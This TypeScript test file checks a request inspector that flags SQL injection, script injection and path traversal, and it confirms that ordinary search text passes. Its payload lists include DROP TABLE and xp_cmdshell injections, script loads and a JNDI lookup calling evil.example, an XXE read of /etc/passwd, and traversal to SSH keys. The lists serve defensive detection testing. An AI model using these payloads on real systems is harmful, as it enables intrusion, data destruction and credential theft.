import { describe, expect, it } from 'vitest';
import { SIGNATURES } from './attack-signatures.js';
import { inspectRequest } from './inspect-request.js';

const inQuery = (text: string) => inspectRequest({ params: {}, query: `q=${text}`, headers: {} });
const encode = encodeURIComponent;

const ATTACKS: readonly (readonly [kind: string, texts: readonly string[]])[] = [
  [
    'sql',
    [
      "' or '1'='1",
      "' OR 1=1--",
      "admin'--",
      "admin' #",
      "admin'/*",
      "') or ('1'='1",
      '" or ""="',
      "1' and '1'='2",
      "x' AND email IS NULL; --",
      "' or true--",
      '1 or 1=1',
      '1 and 1=2',
      '1 UNION SELECT null, null',
      "' union all select username, password from users--",
      "1' UNION/**/SELECT/**/1,2,3",
      '1; DROP TABLE users',
      "'; delete from orders; --",
      '1; insert into admins values(1)',
      "1; update users set role='admin'",
      '1; exec xp_cmdshell("dir")',
      "1; WAITFOR DELAY '0:0:5'",
      "' and sleep(5) and '1'='1",
      '1 and pg_sleep(10)',
      'benchmark(10000000,md5(1))',
      'extractvalue(1,concat(0x7e,version()))',
      'select * from users',
      'select table_name from information_schema.tables',
      "select password from users where name='admin'",
      '1 and ascii(substring((select 1),1,1))>64',
      "x' into outfile '/tmp/x'",
      '1 order by 10--',
      "' || '1'='1",
      "' or name like 'a%",
      '＇ or 1=1--',
    ],
  ],
  [
    'script',
    [
      '<script>alert(1)</script>',
      '<SCRIPT SRC=//evil.example/x.js>',
      '< script >alert(1)</ script >',
      '<img src=x onerror=alert(1)>',
      '<svg/onload=alert(1)>',
      '<body onload="alert(1)">',
      '" onmouseover="alert(1)',
      "' autofocus onfocus='alert(1)",
      'javascript:alert(1)',
      'java\tscript:alert(1)',
      'vbscript:msgbox(1)',
      'data:text/html,<b>x',
      '<iframe src="//evil.example">',
      '<object data="x.swf">',
      '<meta http-equiv="refresh" content="0">',
      '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>',
      "{{constructor.constructor('alert(1)')()}}",
      '${jndi:ldap://evil.example/a}',
      '＜script＞alert(1)＜/script＞',
    ],
  ],
  [
    'path_traversal',
    [
      '../../etc/passwd',
      '..\\..\\windows\\win.ini',
      '/var/www/../../etc/shadow',
      '....//....//etc/passwd',
      '/etc/passwd',
      'file:///etc/hosts',
      'php://filter/read=convert.base64-encode/resource=index',
      '/proc/self/environ',
      'images/..',
      'report.pdf\0.png',
      '/WEB-INF/web.xml',
      '~/.ssh/id_rsa/../../.ssh/id_rsa',
    ],
  ],
];

describe('attacks', () => {
  const all = ATTACKS.flatMap(([kind, texts]) => texts.map((text) => [kind, text] as const));

  it.each(all)('%s: %s, as it is, encoded once and twice', (kind, text) => {
    for (const sent of [text.replaceAll('&', '%26').replaceAll('+', '%2B'), encode(text), encode(encode(text))])
      expect(inQuery(sent)).toEqual({ kind, place: 'query q' });
  });

  it.each(all)('%s: %s, in the path and in a header', (kind, text) => {
    expect(inspectRequest({ params: { rest: text }, query: '', headers: {} })).toEqual({ kind, place: 'path' });
    expect(inspectRequest({ params: {}, query: '', headers: { 'x-name': encode(text) } })).toEqual({
      kind,
      place: 'header x-name',
    });
  });

  it.each([
    ['bytes that are no UTF-8', '%ff%27%20or%201%3d1--'],
    ['over-long dots and slashes', '%c0%ae%c0%ae%c0%afetc'],
    ['Microsoft’s spelling', '%u003cscript%u003e'],
    ['pluses for spaces', "'+or+1=1--"],
    ['the end of a long value', `${'a'.repeat(100_000)}%27+or+1=1--`],
    ['the middle of what is decoded', `${'%20'.repeat(900)}%3Cscript%3E`],
  ])('in %s', (_what, query) => expect(inQuery(query)).not.toBeNull());

  it('in the name of a parameter, which isn’t told', () => {
    const found = inspectRequest({ params: {}, query: `${encode('<script>')}=1&x=2`, headers: {} });
    expect(found).toEqual({ kind: 'script', place: 'query' });
  });
});

describe('what people write in earnest', () => {
  it.each([
    'rock or pop',
    '"rock" or "pop"',
    'O’Brien',
    "O'Brien",
    "it's 5 o'clock -- somewhere",
    "rock 'n' roll",
    "what's the union of two sets?",
    'select a plan from the list',
    'where to select one or more of these from',
    'the trade union selected a new chair',
    'order by phone',
    'drop by; create something',
    'please update the settings and delete from my list what is old',
    'sleep (8 hours)',
    'a < b and b > c',
    'if x <= 3 then y',
    'I <3 you',
    'javascript: the good parts',
    'how does onclick work',
    'scripts and manuscripts',
    'price>=10&price<20',
    'name="x"',
    'wait... what?',
    'and so on... / etc',
    'version 1..2',
    'etc/hosts',
    'C# or F#',
    'c++ -- a language',
    '2026-11-21T19:08:00Z',
    '50% off',
    '100%25',
    'tag:(red or blue) and size:10',
    'user@example.com',
    'https://app.example.com/a/b?c=d#e',
    '{"filter":{"name":"x","count":{"$gte":5}}}',
    'model eq "gpt" and created gt 5',
    '((a or b) and (c or d))',
    'SELECT',
    'Grüße aus Köln & 北京',
    'a1b2c3d4-0000-7000-8000-000000000000',
    'cursor_eyJpZCI6MTIzfQ==',
    'created_at;desc',
    '1;2;3',
    "l'union et l'or",
    'data: and facts',
  ])('%s', (text) => {
    expect(inQuery(encode(text))).toBeNull();
    expect(inspectRequest({ params: { id: text }, query: '', headers: { 'x-title': text } })).toBeNull();
  });

  it('as clients send it', () => {
    const headers = {
      'user-agent': 'Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0',
      referer: 'https://app.example.com/search?q=rock+or+pop&from=2026-01-01',
      'accept-language': 'en-US,en;q=0.5',
      'sec-ch-ua': '"Chromium";v="140", "Not=A?Brand";v="24"',
      'x-stainless-runtime-version': 'v26.10.0',
      'x-forwarded-for': '203.0.113.9, 10.0.0.1',
      forwarded: 'for=203.0.113.9;proto=https;by=203.0.113.43',
      'idempotency-key': '8e03978e-40d5-43dd-bc93-6894a57f9324',
      'if-modified-since': 'Sat, 21 Nov 2026 19:08:00 GMT',
      'cache-control': 'max-age=0, private',
      prefer: 'respond-async; wait=10',
      link: '<https://example.com/a>; rel="next"',
    };
    expect(inspectRequest({ params: {}, query: 'limit=20&after=batch_abc&order=desc', headers })).toBeNull();
  });

  it('of a credential nothing is looked at', () => {
    const headers = { authorization: "Bearer ' or 1=1--", cookie: '<script>' };
    expect(inspectRequest({ params: {}, query: '', headers })).toBeNull();
  });
});

it('no signature repeats anything without a bound, so that none can be made to take long', () => {
  const sources = Object.values(SIGNATURES).flatMap((signatures) => signatures.map(({ source }) => source));
  const isUnbounded = (source: string) => /[*+]|\{\d*,\}/.test(source.replace(/\\./g, '').replace(/\[[^\]]*\]/g, ''));
  expect(sources.length).toBeGreaterThan(30);
  expect(sources.filter(isUnbounded)).toEqual([]);
  expect(isUnbounded(String.raw`a\s+b`)).toBe(true);
});
